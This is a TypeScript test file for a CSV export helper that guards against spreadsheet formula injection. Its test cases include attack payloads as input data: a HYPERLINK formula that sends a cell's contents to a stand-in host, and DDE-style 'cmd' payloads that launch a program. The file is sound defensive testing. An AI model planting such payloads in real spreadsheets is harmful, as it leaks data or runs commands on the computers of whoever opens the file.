import { parse } from "csv-parse/sync";
import { formulaSafeCell, spreadsheetCsv } from "./spreadsheetCsv.js";

const readBack = (csv: string, delimiter = ";"): string[][] => parse(csv, { bom: true, delimiter }) as string[][];

describe("spreadsheetCsv", () => {
  it.each([
    ['=HYPERLINK("http://zly.example/?"&A1;"Kliknij")', '\'=HYPERLINK("http://zly.example/?"&A1;"Kliknij")'],
    ["+48 600 100 200", "'+48 600 100 200"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
  ])("puts a quote before text that a spreadsheet would run as a formula: %j", (typed, written) => {
    expect(formulaSafeCell(typed)).toBe(written);
    const [, row] = readBack(spreadsheetCsv(["Tekst"], [[typed]]));
    expect(row).toEqual([written]);
  });

  it("keeps ordinary text, numbers and negative numbers as they are", () => {
    const rows = [["Anna Kowalska", -12, "-3,5", "-7", 0, true, null, "a = b", "e-mail: a@b.pl"]];
    const [, row] = readBack(spreadsheetCsv(["a", "b", "c", "d", "e", "f", "g", "h", "i"], rows));
    expect(row).toEqual(["Anna Kowalska", "-12", "-3,5", "-7", "0", "1", "", "a = b", "e-mail: a@b.pl"]);
  });

  it("neutralises the header too, and writes a BOM, CRLF and the asked delimiter", () => {
    const csv = spreadsheetCsv(["=Kolumna", "Zwykła"], [["=1+1", "x"]], ",");
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv).toContain("\r\n");
    expect(readBack(csv, ",")).toEqual([
      ["'=Kolumna", "Zwykła"],
      ["'=1+1", "x"],
    ]);
  });
});
